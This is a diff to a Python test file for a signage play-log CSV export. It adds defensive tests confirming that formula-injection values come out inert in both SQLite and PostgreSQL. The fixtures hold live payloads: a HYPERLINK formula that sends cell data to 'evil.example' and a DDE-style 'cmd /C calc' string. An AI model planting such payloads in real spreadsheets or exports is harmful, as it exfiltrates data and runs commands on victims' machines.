@@ -148,7 +148,7 @@ def test_sqlite_sorts_out_a_large_scope_itself_with_the_same_result(twins, monke
         assert exported(sqlite, scope) == data == exported(postgresql, scope)
 
 
-def test_formula_starts_are_made_inert_and_ids_are_not(twins):
+def test_formula_starts_in_names_and_reasons_are_made_inert(twins):
     for database in twins:
         rows = {row[-1]: row for row in lines(exported(database, CITY))[1:]}
         assert rows["05-scr-b"][3:5] == ["'-2 lối vào", "'=Phường Mười"]
@@ -188,3 +188,52 @@ def test_the_fast_csv_reads_as_the_general_export(twins, which):
         general = lines(b"".join(iter_csv(report)))
     assert len(fast) == 9
     assert_same_log(fast, general)
+
+
+# -- formula injection (issue 16, item 5) -----------------------------------------------------------------------
+
+# What an attacker would have a spreadsheet run: a link that sends the sheet's own cells away when clicked.
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def add_formula_play(database: Database, player_id: str, started: datetime, *, play_id: str = "evil-play-0001",
+                     campaign_name: str = "@SUM(1+1)*cmd|' /C calc'!A0") -> str:
+    """A completed play of `player_id` whose campaign id and media are FORMULA, of a campaign whose (staff-typed)
+    name starts like a formula too. Ingest refuses such ids (signage.protocol's patterns), so the rows are written
+    straight into the tables, as a database restored from elsewhere or a future ingest bug would hold them."""
+    now = utc(0)
+    with database.sessions() as session, session.begin():
+        session.execute(insert(Campaign), [{
+            "id": FORMULA, "organisation_id": "hn", "name": campaign_name, "description": None, "start_date": DAY,
+            "end_date": DAY + timedelta(days=9), "plays_per_day": 10, "window_policy": WindowPolicy.peak,
+            "explicit_windows": None, "priority": 0, "status": CampaignStatus.active, "created_at": now,
+            "updated_at": now}])
+        session.execute(insert(PlayRecord), [{
+            "play_id": play_id, "player_id": player_id, "spot_id": "evil-spot", "campaign_id": FORMULA,
+            "media": FORMULA, "kind": "spot", "scheduled_start": started, "started_at": started,
+            "ended_at": started + timedelta(seconds=15), "duration_ms": 15000, "status": "completed",
+            "reason": None, "plan_version": None, "local_date": (started + timedelta(hours=7)).date(),
+            "in_peak": True, "received_at": started}])
+    return play_id
+
+
+def test_ids_starting_like_a_formula_are_made_inert_by_both_databases(twins):
+    """Every text cell of the fast CSV, ids included, is guarded by the same rule as exports.py: both the SQLite
+    lines and PostgreSQL's COPY (before the fix the campaign and media ids came out live, "=HYPERLINK(...")."""
+    for database in twins:
+        add_formula_play(database, "scr-a", utc(6), play_id="-1+2-evil")
+        with database.sessions() as session, session.begin():
+            session.execute(insert(PlayRecord), [{
+                "play_id": "tab-start-0001", "player_id": "scr-a", "spot_id": None, "campaign_id": "\t=1+1",
+                "media": "\r=2+2", "kind": "spot", "scheduled_start": None, "started_at": utc(7),
+                "ended_at": utc(7, 0, 15), "duration_ms": 15000, "status": "completed", "reason": "\t@x",
+                "plan_version": None, "local_date": DAY, "in_peak": True, "received_at": utc(7)}])
+    sqlite, postgresql = twins
+    data = exported(sqlite, CITY)
+    assert data == exported(postgresql, CITY)
+    rows = {row[-1]: row for row in lines(data)[1:]}
+    evil = rows["'-1+2-evil"]
+    assert evil[5:7] == ["'" + FORMULA, "'" + FORMULA]
+    assert evil[9] == "15000"  # a number stays a number
+    assert rows["tab-start-0001"][5:7] == ["'\t=1+1", "'\r=2+2"] and rows["tab-start-0001"][11] == "'\t@x"
+    assert rows["00-scr-a"][2] == "scr-a" and rows["00-scr-a"][5] == "ihanoi"  # ordinary ids are left alone
